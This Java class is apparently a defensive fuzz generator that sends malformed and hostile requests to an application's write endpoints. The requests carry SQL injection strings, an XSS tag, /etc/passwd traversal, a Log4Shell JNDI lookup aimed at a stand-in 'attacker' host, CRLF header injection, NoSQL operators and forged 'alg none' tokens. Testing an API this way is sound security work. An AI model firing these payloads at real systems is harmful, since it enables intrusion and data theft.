package kz.ecase.security;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.random.RandomGenerator;

/**
 * Generates hostile and broken requests to the write endpoints: broken JSON, wrong shapes and
 * types, injection strings, oversized bodies, wrong content types, forged tokens, junk in paths.
 * The same seed gives the same requests, so a failure can be replayed.
 */
final class MalformedRequests {

  /** One request to send; {@code what} says how it was made, for the failure message. */
  record Request(String method, String path, List<String> headers, byte[] body, String what) {}

  private static final String[] HOSTILE =
      new String[] {
        "' or '1'='1",
        "'; drop table user_accounts; --",
        "admin'--",
        "\" or \"\"=\"",
        "1; select pg_sleep(10)",
        "\u0000",
        "nul\u0000inside",
        "\ud800",
        "\u202eevil",
        "<script>alert(1)</script>",
        "../../../../etc/passwd",
        "%s%s%s%n",
        "${jndi:ldap://attacker/x}",
        "{{7*7}}",
        "\\",
        "officer\r\nX-Injected: 1",
        "Ωmega 😀 ӘҒҚҢӨҰҮҺІ",
        "",
        " ",
      };

  /** Characters no text may hold (docs/api.md), each as a JSON escape. */
  private static final String[] REFUSED =
      new String[] {
        "\\u0000", "\\u0001", "\\u0008", "\\u000b", "\\u001b", "\\u001f", "\\u007f",
        "\\u0085", "\\ufffe", "\\uffff", "\\ufdd0", "\\ud800", "\\udfff", "\\ud83d",
      };

  /** The text fields that reach a document, a look-up or the ledger. */
  private static final String[] TEXT_FIELDS =
      new String[] {
        "place",
        "description",
        "reasons",
        "reason",
        "purpose",
        "article",
        "plate",
        "caseNumber",
        "protocolNumber",
        "transition",
        "iin",
        "username",
        "password",
        "pin",
        "idempotencyKey",
      };

  private static final String[] LIMITS =
      new String[] {
        "limit=-5",
        "limit=100000",
        "limit=-1",
        "limit=0",
        "limit=1e3",
        "limit=%01",
        "purpose=" + "p".repeat(600),
        "purpose=%00",
        "purpose=%C0%AF",
        "status=%7F",
      };

  private static final String[] CONTENT_TYPES =
      new String[] {
        "text/plain",
        "application/xml",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=nothing",
        "application/json; charset=ebcdic",
        "application/octet-stream",
        "*/*",
        "application/json;;;",
      };

  private final List<String> writeEndpoints;
  private final List<String> validTokens;

  /**
   * @param validTokens bearer tokens of real users: half of the requests carry one, so that they
   *     get past authentication into the handlers
   */
  MalformedRequests(List<String> writeEndpoints, List<String> validTokens) {
    this.writeEndpoints = List.copyOf(writeEndpoints);
    this.validTokens = List.copyOf(validTokens);
  }

  Request next(RandomGenerator random) {
    String endpoint = writeEndpoints.get(random.nextInt(writeEndpoints.size()));
    String method = endpoint.substring(0, endpoint.indexOf(' '));
    String path = fillPath(endpoint.substring(endpoint.indexOf(' ') + 1), random);
    List<String> headers = new ArrayList<>(List.of("Content-Type", "application/json"));
    int kind = random.nextInt(125);
    byte[] body;
    String what;
    if (kind < 20) {
      body = utf8(truncated(validLooking(random), random));
      what = "truncated JSON";
    } else if (kind < 30) {
      body = randomBytes(random, 1 + random.nextInt(2000));
      what = "random bytes";
    } else if (kind < 45) {
      body = utf8(wrongShape(random));
      what = "wrong JSON shape or types";
    } else if (kind < 50) {
      body = utf8(deeplyNested(random));
      what = "deeply nested JSON";
    } else if (kind < 62) {
      body = utf8(hostileFields(random));
      what = "hostile strings in fields";
    } else if (kind < 72) {
      headers = new ArrayList<>(List.of("Content-Type", pick(CONTENT_TYPES, random)));
      body = utf8(kind % 2 == 0 ? "<token><username>officer</username></token>" : "a=b&c=%ZZ");
      what = "wrong content type";
    } else if (kind < 73) {
      body = utf8("{\"username\":\"" + "x".repeat(2_000_000 + random.nextInt(1_000_000)) + "\"}");
      what = "oversized body";
    } else if (kind < 88) {
      headers.add("Authorization");
      headers.add(forgedAuthorization(random));
      body = utf8(hostileFields(random));
      what = "forged authorization";
    } else if (kind < 94) {
      headers.add("X-Junk");
      headers.add("y".repeat(9_000 + random.nextInt(30_000)));
      body = utf8("{}");
      what = "oversized header";
    } else if (kind < 100) {
      path = path + "?" + junkQuery(random);
      body = utf8(wrongShape(random));
      what = "junk query string";
    } else if (kind < 110) {
      body = utf8(refusedTextInFields(random));
      what = "refused characters in text fields";
    } else if (kind < 115) {
      body = overlongUtf8(random);
      what = "overlong or surrogate UTF-8";
    } else if (kind < 120) {
      body = utf8(typeErrors(random));
      what = "type errors in fields";
    } else {
      path = path + "?" + pick(LIMITS, random);
      body = utf8("{}");
      what = "out-of-range limits";
    }
    if (!headers.contains("Authorization") && random.nextBoolean()) {
      headers.add("Authorization");
      headers.add("Bearer " + validTokens.get(random.nextInt(validTokens.size())));
      what = what + ", signed in";
    }
    return new Request(method, path, headers, body, what);
  }

  private static String fillPath(String pattern, RandomGenerator random) {
    StringBuilder path = new StringBuilder();
    for (String segment : pattern.split("/")) {
      if (segment.isEmpty()) {
        continue;
      }
      path.append('/');
      path.append(segment.startsWith("{") ? junkSegment(random) : segment);
    }
    return path.toString();
  }

  private static String junkSegment(RandomGenerator random) {
    return pick(
        new String[] {
          "-1",
          "99999999999999999999999",
          "%27%20or%201%3D1",
          "..%2F..%2Fetc",
          "%00",
          "%E2%80%AE",
          "x".repeat(1 + random.nextInt(3000)),
          String.valueOf(random.nextLong()),
        },
        random);
  }

  private static String junkQuery(RandomGenerator random) {
    return pick(
        new String[] {
          "a=%25ZZ&b=%C3%28",
          "index=-1&treeSize=abc",
          "x=" + "q".repeat(random.nextInt(5000)),
          "%00=%00",
          "a%5B%5D=1&a%5B%5D=2&a%5Bb%5D=c",
          "lang=%27%3B%20drop%20table%20units%3B--",
        },
        random);
  }

  private static String validLooking(RandomGenerator random) {
    return "{\"username\":\""
        + pick(HOSTILE, random)
        + "\",\"password\":\"demo\",\"pin\":\"123456\"}";
  }

  private static String truncated(String json, RandomGenerator random) {
    return json.substring(0, random.nextInt(json.length()));
  }

  private static String wrongShape(RandomGenerator random) {
    return pick(
        new String[] {
          "[]",
          "null",
          "42",
          "\"just a string\"",
          "{\"username\":42,\"password\":true}",
          "{\"username\":{\"$ne\":null},\"password\":[1,2]}",
          "{\"username\":null,\"password\":null}",
          "{\"username\":\"officer\"}",
          "{\"password\":\"demo\"}",
          "{\"username\":\"officer\",\"password\":\"demo\",\"role\":\"ADMIN\",\"unit\":\"71\"}",
          "{\"username\":1e999,\"password\":-0}",
          "{\"username\":\"a\",\"username\":\"b\",\"password\":\"c\"}",
          "{\"pin\":12345678901234567890,\"documentHash\":[]}",
          "{}",
          "",
        },
        random);
  }

  private static String deeplyNested(RandomGenerator random) {
    int depth = 1_000 + random.nextInt(50_000);
    boolean arrays = random.nextBoolean();
    return (arrays ? "[" : "{\"a\":").repeat(depth) + (arrays ? "]" : "}").repeat(depth);
  }

  private static String hostileFields(RandomGenerator random) {
    String username = pick(HOSTILE, random);
    if (random.nextInt(4) == 0) {
      username = username.repeat(1 + random.nextInt(5000));
    }
    return "{\"username\":\""
        + jsonEscape(username)
        + "\",\"password\":\""
        + jsonEscape(pick(HOSTILE, random))
        + "\",\"pin\":\""
        + jsonEscape(pick(HOSTILE, random))
        + "\"}";
  }

  private static String refusedTextInFields(RandomGenerator random) {
    StringBuilder json = new StringBuilder("{");
    int fields = 1 + random.nextInt(4);
    for (int i = 0; i < fields; i++) {
      if (i > 0) {
        json.append(',');
      }
      json.append('"')
          .append(pick(TEXT_FIELDS, random))
          .append("\":\"Астана")
          .append(pick(REFUSED, random))
          .append("8\"");
    }
    json.append(",\"fineMci\":10,\"iin\":\"850315401231\"}");
    return json.toString();
  }

  private static byte[] overlongUtf8(RandomGenerator random) {
    byte[][] sequences = {
      {(byte) 0xC0, (byte) 0xAF},
      {(byte) 0xC0, (byte) 0x80},
      {(byte) 0xE0, (byte) 0x80, (byte) 0xAF},
      {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
      {(byte) 0xF0, (byte) 0x9F},
      {(byte) 0xFF},
    };
    byte[] head = utf8("{\"" + pick(TEXT_FIELDS, random) + "\":\"a");
    byte[] bad = sequences[random.nextInt(sequences.length)];
    byte[] tail = utf8("b\",\"fineMci\":10}");
    byte[] body = new byte[head.length + bad.length + tail.length];
    System.arraycopy(head, 0, body, 0, head.length);
    System.arraycopy(bad, 0, body, head.length, bad.length);
    System.arraycopy(tail, 0, body, head.length + bad.length, tail.length);
    return body;
  }

  private static String typeErrors(RandomGenerator random) {
    return pick(
        new String[] {
          "{\"fineMci\":10.5}",
          "{\"fineMci\":\"ten\"}",
          "{\"fineMci\":[10]}",
          "{\"place\":[\"Астана\"]}",
          "{\"reasons\":{\"a\":1}}",
          "{\"article\":\"speeding-20-40\\u0000\"}",
          "{\"offenceTime\":\"yesterday\"}",
          "{\"photos\":\"not an array\"}",
          "{\"transition\":\"NOT_A_STEP\"}",
          "{\"pin\":123456}",
        },
        random);
  }

  private static String forgedAuthorization(RandomGenerator random) {
    return pick(
        new String[] {
          "Bearer " + "a".repeat(1 + random.nextInt(500)),
          "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiIsImVjYXNlX3JvbGUiOiJBRE1JTiJ9.",
          "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZG1pbiJ9.c2lnbmF0dXJl",
          "Basic YWRtaW46ZGVtbw==",
          "Bearer",
          "Bearer ' or 1=1 --",
          "Negotiate xyz",
        },
        random);
  }

  private static String jsonEscape(String text) {
    StringBuilder out = new StringBuilder();
    for (char c : text.toCharArray()) {
      if (c == '"' || c == '\\') {
        out.append('\\').append(c);
      } else if (c < 0x20) {
        out.append(String.format("\\u%04x", (int) c));
      } else {
        out.append(c);
      }
    }
    return out.toString();
  }

  private static byte[] randomBytes(RandomGenerator random, int size) {
    byte[] bytes = new byte[size];
    random.nextBytes(bytes);
    return bytes;
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static String pick(String[] options, RandomGenerator random) {
    return options[random.nextInt(options.length)];
  }
}
